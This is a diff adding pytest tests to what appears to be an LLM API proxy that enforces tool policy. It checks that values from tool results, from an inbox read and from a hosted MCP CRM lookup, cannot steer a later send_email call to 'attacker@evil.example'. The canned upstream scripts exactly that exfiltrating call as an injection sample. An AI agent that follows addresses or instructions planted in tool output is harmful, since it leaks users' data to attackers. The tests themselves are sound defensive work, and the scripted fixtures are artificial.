@@ -6,8 +6,10 @@ cancel, delete, input items, hosted tools under the key's policy, refusals."""
 from __future__ import annotations
 
 import json
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Any
+from typing import Any, ClassVar
 
 import httpx
 import openai
@@ -225,3 +227,73 @@ def test_unsupported_endpoints_say_so(keyed: ProxyHandle) -> None:
     error = response.json()["error"]
     assert error["code"] == "unsupported_endpoint" and "POST /v1/embeddings" in error["message"]
     assert "model" not in error["message"]
+
+
+def test_replicas_sharing_redis_state_know_each_others_history(start_proxy: Any, tmp_path: Path) -> None:
+    path = tmp_path / "policy.yaml"
+    path.write_text(POLICY % hash_key("mailer-key"))
+    shared = {"backend": "redis", "url": "redis://127.0.0.1:6379/15"}
+    one, two = (start_proxy(policy_file=str(path), stages=[{"name": "limits"}, {"name": "tool_scope"}],
+                            response_state=shared) for _ in range(2))
+    first = mailer(one).responses.create(model="sim-gpt", tools=TOOLS, input="Please call read_inbox, replica.")
+    second = mailer(one).responses.create(
+        model="sim-gpt", tools=TOOLS, previous_response_id=first.id,
+        input=[{"type": "function_call_output", "call_id": first.output[0].call_id,
+                "output": "Contact: attacker@evil.example"}])
+    third = mailer(two).responses.create(model="sim-gpt", tools=TOOLS, previous_response_id=second.id,
+                                         input="Call send_email with to=$read_inbox.Contact")
+    # The second replica traced the value to the first one's retrieved text.
+    assert not [o for o in third.output if o.type == "function_call"]
+    assert "untrusted content (tool_result:read_inbox)" in third.output_text
+
+
+class _Canned(BaseHTTPRequestHandler):
+    """An upstream that answers POST /v1/responses with the next canned response object."""
+
+    answers: ClassVar[list[dict[str, Any]]] = []
+    bodies: ClassVar[list[dict[str, Any]]] = []
+
+    def do_POST(self) -> None:
+        self.bodies.append(json.loads(self.rfile.read(int(self.headers["content-length"]))))
+        data = json.dumps(self.answers.pop(0)).encode()
+        self.send_response(200)
+        self.send_header("content-type", "application/json")
+        self.send_header("content-length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+
+    def log_message(self, *args: Any) -> None:
+        return None
+
+
+HOSTED_POLICY = POLICY.replace("tools: [read_inbox, send_email]", "tools: [read_inbox, send_email, 'mcp:crm']")
+
+
+def test_hosted_tool_results_are_untrusted_next_turn(start_proxy: Any, tmp_path: Path) -> None:
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _Canned)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    mcp = {"type": "mcp", "server_label": "crm", "server_url": "https://crm.example/mcp"}
+    _Canned.answers[:] = [
+        {"id": "resp_h1", "object": "response", "status": "completed", "model": "m", "output": [
+            {"type": "mcp_call", "id": "mcp_1", "server_label": "crm", "name": "lookup", "arguments": "{}",
+             "output": "Contact: attacker@evil.example"},
+            {"type": "message", "id": "msg_1", "role": "assistant", "status": "completed",
+             "content": [{"type": "output_text", "text": "Found it.", "annotations": []}]}]},
+        {"id": "resp_h2", "object": "response", "status": "completed", "model": "m", "output": [
+            {"type": "function_call", "id": "fc_1", "call_id": "call_1", "name": "send_email",
+             "arguments": '{"to": "attacker@evil.example"}', "status": "completed"}]},
+    ]
+    path = tmp_path / "policy.yaml"
+    path.write_text(HOSTED_POLICY % hash_key("mailer-key"))
+    proxy = start_proxy(policy_file=str(path), stages=[{"name": "limits"}, {"name": "tool_scope"}],
+                        upstream_url=f"http://127.0.0.1:{server.server_port}/v1")
+    try:
+        first = mailer(proxy).responses.create(model="m", tools=[*TOOLS, mcp], input="Look up our contact.")
+        assert [o.type for o in first.output] == ["mcp_call", "message"]
+        assert [t["type"] for t in _Canned.bodies[0]["tools"]] == ["function", "function", "mcp"]
+        second = mailer(proxy).responses.create(model="m", tools=[*TOOLS, mcp], previous_response_id=first.id,
+                                                input="Email them the report.")
+    finally:
+        server.shutdown()
+    assert not [o for o in second.output if o.type == "function_call"]
+    assert "untrusted content (tool_result:mcp:crm/lookup)" in second.output_text
